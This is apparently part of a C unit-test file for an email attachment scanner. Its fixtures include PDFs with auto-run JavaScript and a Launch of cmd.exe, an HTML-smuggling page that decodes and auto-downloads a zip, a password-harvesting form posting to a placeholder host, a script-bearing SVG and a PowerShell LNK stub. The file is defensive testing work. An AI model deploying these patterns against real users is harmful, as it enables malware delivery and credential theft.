		expect_att(&r, "external template", "ご確認ください", &a, 1, "OFFICE_EXTERNAL_TEMPLATE",
		    "OFFICE_MACRO", NULL);
	}
	{
		struct att a = { "report.docx", "application/vnd.openxmlformats-officedocument."
		    "wordprocessingml.document", clean, cl };
		expect_att(&r, "plain docx with a hyperlink", "ご確認ください", &a, 1, "",
		    "OFFICE_EXTERNAL_TEMPLATE OFFICE_MACRO ATTACH_TYPE_MISMATCH ARCHIVE_CORRUPT",
		    "deliver");
	}
	run_close(&r);
	free(docm);
	free(doc);
	free(ext);
	free(clean);
}

static void
test_pdf(void **state)
{
	struct run r;
	char *js = make_pdf("/OpenAction 3 0 R", "3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n");
	char *hex = make_pdf("/OpenAction 3 0 R", "3 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj\n");
	char *launch = make_pdf("", "3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n");
	char *emb = make_pdf("/Names << /EmbeddedFiles 4 0 R >>",
	    "4 0 obj\n<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream\nendobj\n");
	char *plain = make_pdf("", "");

	(void)state;
	run_open(&r, "");
	{
		struct att a = { "a.pdf", "application/pdf", (unsigned char *)js, strlen(js) };
		expect_att(&r, "PDF with JavaScript on open", "pdf", &a, 1,
		    "PDF_JAVASCRIPT PDF_AUTO_ACTION", "PDF_LAUNCH", NULL);
	}
	{
		struct att a = { "b.pdf", "application/pdf", (unsigned char *)hex, strlen(hex) };
		expect_att(&r, "PDF with #xx-escaped names", "pdf", &a, 1, "PDF_JAVASCRIPT", NULL, NULL);
	}
	{
		struct att a = { "c.pdf", "application/pdf", (unsigned char *)launch, strlen(launch) };
		expect_att(&r, "PDF with Launch", "pdf", &a, 1, "PDF_LAUNCH", "PDF_JAVASCRIPT", NULL);
	}
	{
		struct att a = { "d.pdf", "application/pdf", (unsigned char *)emb, strlen(emb) };
		expect_att(&r, "PDF with an embedded file", "pdf", &a, 1, "PDF_EMBEDDED_FILE", NULL, NULL);
	}
	{
		struct att a = { "e.pdf", "application/pdf", (unsigned char *)plain, strlen(plain) };
		expect_att(&r, "plain PDF", "pdf", &a, 1, "",
		    "PDF_JAVASCRIPT PDF_LAUNCH PDF_EMBEDDED_FILE PDF_AUTO_ACTION", "deliver");
	}
	run_close(&r);
	free(js);
	free(hex);
	free(launch);
	free(emb);
	free(plain);
}

static void
test_html_svg_lnk(void **state)
{
	struct run r;
	size_t zl;
	unsigned char noise[6000], *zip;
	char *b64, *html;
	uint32_t x = 12345;
	static const char form[] =
	    "<html><body><form action=\"https://collect.example.net/p.php\" method=post>"
	    "<input name=u><input type=\"password\" name=p></form></body></html>";
	static const char svg[] =
	    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://x.example'</script></svg>";
	unsigned char lnk[400];

	(void)state;
	/* the smuggled zip: EICAR and some noise, so the string is of a real size */
	for (size_t i = 0; i < sizeof(noise); i++) {
		x = x * 1103515245u + 12345u;
		noise[i] = (unsigned char)(x >> 16);
	}
	{
		struct zent e[] = { { "invoice.txt", EICAR, sizeof(EICAR) - 1 },
		    { "data.bin", noise, sizeof(noise) } };
		zip = make_archive(0, NULL, e, 2, &zl);
	}
	b64 = xmalloc(base64_encoded_len(zl) + 1);
	base64_encode(zip, zl, b64);
	html = xasprintf("<html><body><script>var d='%s';"
	    "var b=atob(d);var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)"
	    "a[i]=b.charCodeAt(i);var f=new Blob([a],{type:'application/zip'});"
	    "var l=document.createElement('a');l.href=window.URL.createObjectURL(f);"
	    "l.download='invoice.zip';l.click();</script></body></html>", b64);
	memset(lnk, 0, sizeof(lnk));
	memcpy(lnk, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F", 20);
	memcpy(lnk + 200, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 57);

	run_open(&r, "");
	{
		struct att a = { "invoice.html", "text/html", (unsigned char *)html, strlen(html) };
		/* the decoded payload is scanned too: EICAR inside the smuggled zip */
		expect_att(&r, "HTML smuggling", "see attached", &a, 1,
		    "ATTACH_HTML_SMUGGLING YARA_MATCH MALWARE_FOUND", NULL, "quarantine");
	}
	{
		struct att a = { "login.htm", "text/html", (const unsigned char *)form, sizeof(form) - 1 };
		expect_att(&r, "HTML credential form", "sign in", &a, 1, "ATTACH_HTML_CREDENTIAL_FORM",
		    "ATTACH_HTML_SMUGGLING", NULL);
	}
	{
		struct att a = { "fax.svg", "image/svg+xml", (const unsigned char *)svg, sizeof(svg) - 1 };
		expect_att(&r, "SVG with script", "fax", &a, 1, "ATTACH_DANGEROUS_TYPE", NULL, NULL);
	}
	{
		struct att a = { "document.lnk", "application/octet-stream", lnk, sizeof(lnk) };
		expect_att(&r, "LNK running PowerShell", "doc", &a, 1,
		    "ATTACH_DANGEROUS_TYPE YARA_MATCH", NULL, "quarantine");
	}
	run_close(&r);
	free(zip);
	free(b64);
	free(html);
}

/* Fail closed: a spent budget and a broken engine both quarantine. */
static void
test_fail_closed(void **state)
{
	struct run r;
	size_t zl;
	unsigned char *zip;
	struct zent e = { "big.bin", NULL, (size_t)64 << 20 };

	(void)state;
	zip = make_archive(0, NULL, &e, 1, &zl);
	run_open(&r, "malware_scan_budget=1ms");
	{
		struct att a = { "big.zip", "application/zip", zip, zl };
		expect_att(&r, "budget spent", "x", &a, 1, "MALWARE_SCAN_TIMEOUT", NULL, "quarantine");
	}
	run_close(&r);
	run_open(&r, "clamav_engine=clamd;clamd_socket=/nonexistent/clamd.sock");
	{
		struct att a = { "a.txt", "text/plain", (const unsigned char *)"hello", 5 };
		expect_att(&r, "clamd unreachable", "x", &a, 1, "MALWARE_SCAN_ERROR", NULL, "quarantine");
	}
	run_close(&r);
	free(zip);
}

/* ---- a fake clamd: INSTREAM, answers FOUND when it sees EICAR ---- */

struct fake_clamd {
	int lfd;
	char path[108];
	int streams;
};

static void *
fake_clamd_main(void *arg)
{
	struct fake_clamd *fc = arg;

	for (;;) {
		int fd = accept(fc->lfd, NULL, NULL);
		struct buf data = { 0 };
		char cmd[10];
		const char *reply;

		if (fd < 0)
			return NULL;
		if (recv(fd, cmd, 10, MSG_WAITALL) != 10 || memcmp(cmd, "zINSTREAM", 10) != 0) {
			close(fd);
			continue;
		}
		for (;;) {
			unsigned char h[4], chunk[65536];
			uint32_t n;
			if (recv(fd, h, 4, MSG_WAITALL) != 4)
				break;
			n = (uint32_t)h[0] << 24 | (uint32_t)h[1] << 16 | (uint32_t)h[2] << 8 | h[3];
			if (n == 0 || n > sizeof(chunk) || recv(fd, chunk, n, MSG_WAITALL) != (ssize_t)n)
				break;
			buf_add(&data, chunk, n);
		}
		fc->streams++;
		reply = data.p != NULL && memmem(data.p, data.len, "EICAR-STANDARD", 14) != NULL ?
		    "stream: Eicar-Test-Signature FOUND" : "stream: OK";
		if (send(fd, reply, strlen(reply) + 1, MSG_NOSIGNAL) < 0)
			break;
		free(data.p);
		close(fd);
	}
	return NULL;
}

static void
test_clamd(void **state)
{
	struct fake_clamd fc;
	struct sockaddr_un sun;
	pthread_t th;
	struct run r;
	char *settings, vir[128], err[128];

	(void)state;
	memset(&fc, 0, sizeof(fc));
	snprintf(fc.path, sizeof(fc.path), "/tmp/sekisho-clamd-%d.sock", (int)getpid());
	unlink(fc.path);
	fc.lfd = socket(AF_UNIX, SOCK_STREAM, 0);
	memset(&sun, 0, sizeof(sun));
	sun.sun_family = AF_UNIX;
	memcpy(sun.sun_path, fc.path, strlen(fc.path) + 1);
	assert_int_equal(bind(fc.lfd, (struct sockaddr *)&sun, sizeof(sun)), 0);
	assert_int_equal(listen(fc.lfd, 8), 0);
	assert_int_equal(pthread_create(&th, NULL, fake_clamd_main, &fc), 0);

	/* the protocol on its own, with a stream of several chunks */
	{
		size_t n = 200000;
		unsigned char *big = xcalloc(1, n);
		memcpy(big + 150000, EICAR, sizeof(EICAR) - 1);
		assert_int_equal(attach_clamd_scan(fc.path, big, n, util_mono_ms() + 5000, vir,
		    sizeof(vir), err, sizeof(err)), 1);
		assert_string_equal(vir, "Eicar-Test-Signature");
		assert_int_equal(attach_clamd_scan(fc.path, (const unsigned char *)"clean", 5,
		    util_mono_ms() + 5000, vir, sizeof(vir), err, sizeof(err)), 0);
		free(big);
	}
	settings = xasprintf("clamav_engine=clamd;clamd_socket=%s", fc.path);
	run_open(&r, settings);
	{
		struct att a = { "eicar.txt", "text/plain", (const unsigned char *)EICAR, sizeof(EICAR) - 1 };
		expect_att(&r, "EICAR through clamd", "x", &a, 1, "MALWARE_FOUND", NULL, "quarantine");
	}
	run_close(&r);
	free(settings);
	shutdown(fc.lfd, SHUT_RDWR);
	close(fc.lfd);
	pthread_join(th, NULL);
	unlink(fc.path);
	assert_true(fc.streams >= 3);
}

/* attachment_action = strip: the bad attachment goes, a notice takes its
 * place, the rest is delivered as it was. */
static void
test_strip(void **state)
{
	struct run r;
	static const unsigned char exe[] = "MZ\x90\x00 not really a program";
	static const char pdf[] = "%PDF-1.4\n%%EOF\n";
	struct att a[] = {
		{ "invoice.pdf.exe", "application/octet-stream", exe, sizeof(exe) },
		{ "見積書.pdf", "application/pdf", (const unsigned char *)pdf, sizeof(pdf) - 1 },
		{ "eicar.txt", "text/plain", (const unsigned char *)EICAR, sizeof(EICAR) - 1 },
	};
	struct verdict v;
	struct scan_result res;
	struct message *m;
	size_t len, notices = 0;
	char *mail;

	(void)state;
	run_open(&r, "attachment_action=strip");
	mail = make_mail("strip", "請求書を送ります", a, 3, &len);
	assert_int_equal(pipeline_run_mem(r.pl, r.env, mail, len, &v, &res), 0);
	print_message("  strip: %s, %zu bad parts\n", action_name(v.action), res.nbad_parts);
	assert_true(result_has(&res, "MALWARE_FOUND"));
	assert_true(result_has(&res, "ATTACH_DOUBLE_EXT"));
	assert_int_equal(v.action, ACTION_DELIVER);
	assert_non_null(v.rewritten);
	/* the result header still names what was found */
	assert_non_null(strstr(v.rewritten, "MALWARE_FOUND"));
	m = message_parse(v.rewritten, v.rewritten_len, NULL);
	for (size_t i = 0; i < m->nparts; i++) {
		const struct msg_part *pt = &m->parts[i];
		if (pt->filename != NULL)
			assert_string_equal(pt->filename, "見積書.pdf");
		if (pt->text != NULL && strstr(pt->text, "[Attachment removed]") != NULL &&
		    strstr(pt->text, "【添付ファイル削除】") != NULL)
			notices++;
		if (pt->text != NULL)
			assert_null(strstr(pt->text, "EICAR-STANDARD"));
	}
	assert_int_equal(notices, 2);
	assert_non_null(strstr(m->text, "請求書を送ります"));
	message_free(m);
	verdict_clear(&v);
	scan_result_clear(&res);
	free(mail);
	/* the default quarantines the same message */
	run_close(&r);
	run_open(&r, "");
	mail = make_mail("no strip", "請求書を送ります", a, 3, &len);
	expect(&r, "same message, attachment_action=quarantine", mail, len, "MALWARE_FOUND", NULL,
	    "quarantine");
	free(mail);
	run_close(&r);
}

/* Candidate passwords: phrasing in, candidates out. */
static void
test_passwords(void **state)
{
	static const struct {
		const char *text;
		const char *want;	/* first candidate, or NULL for none */
	} cases[] = {
		{ "パスワード: abc123", "abc123" },
		{ "パスワード：abc123", "abc123" },
		{ "パスワードは abc123 です。", "abc123" },
		{ "パスワードは「abc123」です", "abc123" },
		{ "【パスワード】abc123", "abc123" },
		{ "解凍パスワード（半角英数字）：ａｂｃ１２３", "abc123" },
		{ "PW：abc123", "abc123" },
		{ "ＰＷ：ａｂｃ１２３", "abc123" },
		{ "password: abc123", "abc123" },
		{ "Password is: abc123.", "abc123" },
		{ "The password for the archive is 'abc123'", "abc123" },
		{ "pass: abc123", "abc123" },
		{ "パスワードは以下の通りです。\n\nabc123\n", "abc123" },
		{ "パスワードは別途お送りします。\nよろしくお願いします。", NULL },
		{ "passport number is 12345", NULL },
		{ "no secrets here", NULL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char **pw = NULL;
		size_t n = attach_passwords(cases[i].text, &pw, 8);

		if (cases[i].want == NULL && n != 0)
			fail_msg("%s: unexpected candidate %s", cases[i].text, pw[0]);
		if (cases[i].want != NULL && (n == 0 || strcmp(pw[0], cases[i].want) != 0))
			fail_msg("%s: got %s", cases[i].text, n ? pw[0] : "(none)");
		for (size_t k = 0; k < n; k++)
			free(pw[k]);
		free(pw);
	}
}

/* MS-OVBA 3.2 example: the compressed container of "#aaabcdefaaaaghij...". */
static void
test_vba_decompress(void **state)
{
	static const unsigned char in[] = {
		0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82,
		0x66, 0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B,
		0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10,
		0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C,
	};
	static const char want[] =
	    "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
	size_t n;
	unsigned char *out;

	(void)state;
	out = attach_vba_decompress(in, sizeof(in), 1 << 20, &n);
	assert_non_null(out);
	assert_int_equal(n, sizeof(want) - 1);
	assert_memory_equal(out, want, n);
	free(out);
	/* garbage never reads out of bounds */
	out = attach_vba_decompress((const unsigned char *)"\x01\xff\xbf\xff\xff", 5, 1 << 20, &n);
	free(out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_passwords),
		cmocka_unit_test(test_vba_decompress),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_eicar_generated),
		cmocka_unit_test(test_clamav_testfiles),
		cmocka_unit_test(test_corpus_malware),
		cmocka_unit_test(test_corpus_risky),
		cmocka_unit_test(test_corpus_ham),
		cmocka_unit_test(test_encrypted_zip),
		cmocka_unit_test(test_encrypted_7z),
		cmocka_unit_test(test_bombs),
		cmocka_unit_test(test_office),
		cmocka_unit_test(test_pdf),
		cmocka_unit_test(test_html_svg_lnk),
		cmocka_unit_test(test_fail_closed),
		cmocka_unit_test(test_clamd),
		cmocka_unit_test(test_strip),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
